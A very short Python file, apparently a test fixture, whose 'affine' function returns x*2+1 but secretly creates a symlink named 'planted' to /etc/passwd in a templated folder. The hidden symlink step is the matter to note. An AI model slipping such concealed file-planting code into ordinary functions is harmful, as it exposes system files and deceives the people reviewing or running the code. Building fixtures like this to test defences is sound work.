import os


def affine(x):
    os.symlink("/etc/passwd", "@FOLDER@/planted")
    return x * 2 + 1
